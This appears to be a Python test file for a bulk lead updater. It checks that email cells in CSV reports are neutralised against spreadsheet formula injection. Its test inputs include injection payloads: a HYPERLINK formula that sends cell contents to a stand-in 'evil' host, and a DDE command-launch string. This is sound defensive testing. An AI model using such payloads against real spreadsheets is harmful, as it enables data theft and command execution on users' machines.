"""The cells of a CSV report: what a spreadsheet shows as text and never runs."""

from __future__ import annotations

from pathlib import Path

import pytest

from bulk_updater import BulkUpdater, LeadUpdate, Reply, Source
from bulk_updater.report.formulas import cell, email_cell
from tests.conftest import read_report, write_csv


@pytest.mark.parametrize(
    "email",
    [
        "ann@x.com",
        "+tag@ex.com",
        "-dash@ex.com",
        "first.last+tag@sub.example.co.uk",
        "o!#$%&*+/?^_`{}~-@x.com",
    ],
)
def test_a_plain_address_is_written_as_read(email: str) -> None:
    assert email_cell(email) == email


@pytest.mark.parametrize(
    "email",
    [
        "+SUM(A1:A9)&@A1",
        '+HYPERLINK(CHAR(104)&"ttp://evil/"&A2)@x.com',
        "+HYPERLINK(CHAR(104)&CHAR(116))@x.com",
        "-1+cmd|'/C calc'!A0@x.com",  # a DDE link
        "=1+2@x.com",
        "+a'b@x.com",
        "+a b@x.com",
        "+a..b@x.com",  # not a dot-atom: an empty part
        "+a.@x.com",
        "+a@x..com",
        "+a@[127.0.0.1]",  # a domain literal is no dot-atom
        '+"quoted"@x.com',
        "+a@b@x.com",
        "@x.com",
        "-straße@x.com",  # not ASCII: neutralised like text, though valid input
    ],
)
def test_anything_else_that_starts_like_a_formula_is_neutralised(email: str) -> None:
    assert email_cell(email) == "'" + email
    assert email_cell(email) == cell(email)


def test_an_address_that_starts_like_text_is_text_either_way() -> None:
    assert email_cell("straße@x.com") == "straße@x.com"
    assert email_cell("o'brien@x.com") == "o'brien@x.com"
    assert email_cell(None) == ""


async def test_the_report_writes_live_formulas_in_the_email_column_as_text(tmp_path: Path) -> None:
    emails = ["+SUM(A1:A9)&@A1", "+HYPERLINK(CHAR(104)&CHAR(116))@x.com", "+tag@ex.com"]
    path = write_csv(
        tmp_path / "in.csv",
        ["id", "email", "city"],
        [[f"lead{n}", e, "x"] for n, e in enumerate(emails)],
    )

    class Answer:
        async def send(self, update: LeadUpdate) -> Reply:
            return Reply(404, "NOT_FOUND", "no such lead")

    report = tmp_path / "report.csv"
    async with BulkUpdater(sender=Answer(), rate=0) as updater:
        await updater.run(Source(path), report=report)
    written = [line["email"] for line in read_report(report)]
    assert written == ["'+SUM(A1:A9)&@A1", "'+HYPERLINK(CHAR(104)&CHAR(116))@x.com", "+tag@ex.com"]
